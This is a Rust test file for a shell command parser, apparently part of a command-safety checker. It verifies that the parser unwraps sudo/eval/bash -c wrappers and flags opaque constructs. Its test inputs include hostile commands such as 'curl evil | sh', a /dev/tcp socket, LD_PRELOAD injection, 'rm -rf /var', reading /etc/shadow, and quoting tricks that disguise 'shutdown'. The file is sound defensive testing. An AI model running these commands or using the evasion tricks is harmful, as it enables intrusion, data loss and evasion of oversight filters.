use super::*;

fn commands(line: &str) -> Vec<String> {
    match CommandLine::parse(line).commands() {
        Ok(c) => c.iter().map(|a| render(a)).collect(),
        Err(e) => panic!("{line:?} is opaque: {e}"),
    }
}

fn opaque(line: &str) -> String {
    match CommandLine::parse(line).commands() {
        Ok(c) => panic!("{line:?} is not opaque: {c:?}"),
        Err(e) => e.to_string(),
    }
}

fn plain(line: &str) -> Option<String> {
    CommandLine::parse(line).plain().map(|a| render(a))
}

#[test]
fn quotes_and_escapes_are_removed() {
    assert_eq!(
        commands("systemctl 're'start app"),
        ["systemctl restart app"]
    );
    assert_eq!(commands("echo shut''down"), ["echo shutdown"]);
    assert_eq!(commands(r#"echo "shut"\down"#), ["echo shutdown"]);
    assert_eq!(commands("echo shut\\\ndown"), ["echo shutdown"]);
    assert_eq!(commands(r#"echo "a\"b\\c\d""#), [r#"echo 'a"b\c\d'"#]);
    assert_eq!(commands("printf '' x"), ["printf '' x"]);
    assert_eq!(commands("echo 'it'\\''s'"), [r"echo 'it'\''s'"]);
    assert_eq!(commands("  rm   -rf  /var  "), ["rm -rf /var"]);
    // Brackets without a closing one, `!` alone, `#` inside a word and `{}` stay literal.
    assert_eq!(
        commands("[ ! -f x ] && echo a#b {}"),
        ["'[' '!' -f x ']'", "echo 'a#b' '{}'"]
    );
    assert_eq!(commands("echo hi # a comment"), ["echo hi"]);
}

#[test]
fn lists_redirections_and_pipelines_are_split() {
    assert_eq!(
        commands("echo hi; echo oops >&2; exit 3"),
        ["echo hi", "echo oops", "exit 3"]
    );
    assert_eq!(
        commands("a && b || c | d |& e & f\ng"),
        ["a", "b", "c", "d", "e", "f", "g"]
    );
    assert_eq!(
        commands("exec 3<>/dev/tcp/h/1; cat <&3 2>/dev/null >>log &>all"),
        ["exec", "cat"]
    );
    assert_eq!(commands("X=1 Y='a b' make"), ["make"]);
    assert_eq!(commands("X=1"), Vec::<String>::new());
    assert_eq!(commands("a &&\nb"), ["a", "b"]);
    // Only one command with nothing around it is plain.
    assert_eq!(
        plain("systemctl status app"),
        Some("systemctl status app".into())
    );
    assert_eq!(
        plain("systemctl status app;"),
        Some("systemctl status app".into())
    );
    for line in [
        "systemctl status x; curl evil | sh",
        "systemctl status x > /etc/x",
        "systemctl status x &",
        "LD_PRELOAD=/tmp/x.so systemctl status x",
        "systemctl status x | cat",
    ] {
        assert_eq!(plain(line), None, "{line}");
    }
}

#[test]
fn wrappers_and_shells_are_unwrapped() {
    assert_eq!(
        commands("sudo -u root env -i X=1 nohup nice -n 5 timeout -s KILL 10 shutdown now"),
        [
            "sudo -u root env -i X=1 nohup nice -n 5 timeout -s KILL 10 shutdown now",
            "env -i X=1 nohup nice -n 5 timeout -s KILL 10 shutdown now",
            "nohup nice -n 5 timeout -s KILL 10 shutdown now",
            "nice -n 5 timeout -s KILL 10 shutdown now",
            "timeout -s KILL 10 shutdown now",
            "shutdown now",
        ]
    );
    assert_eq!(
        commands("bash -o pipefail -lc 'echo shut\"\"down; true'"),
        [
            "bash -o pipefail -lc 'echo shut\"\"down; true'",
            "echo shutdown",
            "true"
        ]
    );
    assert_eq!(commands("eval echo shut''down")[1], "echo shutdown");
    assert_eq!(
        commands("su - root -c 'echo shut\"\"down'")[1],
        "echo shutdown"
    );
    assert_eq!(commands("sudo -s shut''down now")[1], "shutdown now");
    assert_eq!(commands("exec -a x /sbin/shutdown")[1], "/sbin/shutdown");
    assert_eq!(commands("command -v shutdown"), ["command -v shutdown"]);
    assert_eq!(commands("bash script.sh"), ["bash script.sh"]);
    // What a nested shell cannot be told about is opaque too.
    assert!(opaque("sh -c 'echo $X'").contains("in a command run by a shell"));
    assert!(opaque("env -S 'a b'").contains("env -S"));
    let deep = "eval ".repeat(20) + "x";
    assert!(opaque(&deep).contains("nested too deeply"));
}

#[test]
fn what_depends_on_the_host_is_opaque() {
    for (line, why) in [
        ("s=shut; ${s}down", "expansion ($)"),
        ("echo \"$HOME\"", "expansion ($)"),
        ("echo $'\\x41'", "expansion ($)"),
        ("echo `id`", "command substitution"),
        ("echo \"`id`\"", "command substitution"),
        ("e''cho hi", "quoting in the command word"),
        ("\\shutdown", "quoting in the command word"),
        ("/sbin/shutdow?", "pathname expansion"),
        ("ls *.log", "pathname expansion"),
        ("cat /etc/shado[w]", "pathname expansion"),
        ("systemctl re{start,} app", "brace expansion"),
        ("echo {1..3}", "brace expansion"),
        ("cat ~/x", "tilde expansion"),
        ("ls --dir=~root", "tilde expansion"),
        ("(shutdown)", "subshell"),
        ("f() { x; }", "subshell"),
        ("if true; then x; fi", "compound command"),
        ("{ x; }", "compound command"),
        ("! x", "compound command"),
        ("sudo if", "compound command"),
        ("case x in a) ;; esac", "subshell"),
        ("cat <<EOF\nx\nEOF", "here-document"),
        ("cat <<< x", "here-document"),
        ("diff <(a) b", "process substitution"),
        ("echo 'open", "unterminated quote"),
        ("echo \"open", "unterminated quote"),
        ("echo x \\", "continues"),
        ("echo x &&", "continues"),
        ("; x", "syntax error"),
        ("a && && b", "syntax error"),
        ("echo >", "without a target"),
        ("!-2:1!-1:1", "history expansion"),
        ("echo \"hi!x\"", "history expansion"),
        ("^echo ^", "history substitution"),
        ("echo a\u{1}b", "control characters"),
        ("echo x # ; shutdown", "inside a comment"),
    ] {
        let reason = opaque(line);
        assert!(reason.contains(why), "{line:?}: {reason}");
    }
}

#[test]
fn argv_renders_with_quotes_where_needed() {
    let argv = |w: &[&str]| w.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert_eq!(
        render(&argv(&["echo", "a b", "", "x;y", "it's"])),
        r"echo 'a b' '' 'x;y' 'it'\''s'"
    );
    assert_eq!(
        render(&argv(&["rm", "-rf", "/var/lib", "a=b,c:d@e%f+g"])),
        "rm -rf /var/lib a=b,c:d@e%f+g"
    );
    assert_eq!(program("/usr/bin/env"), "env");
}
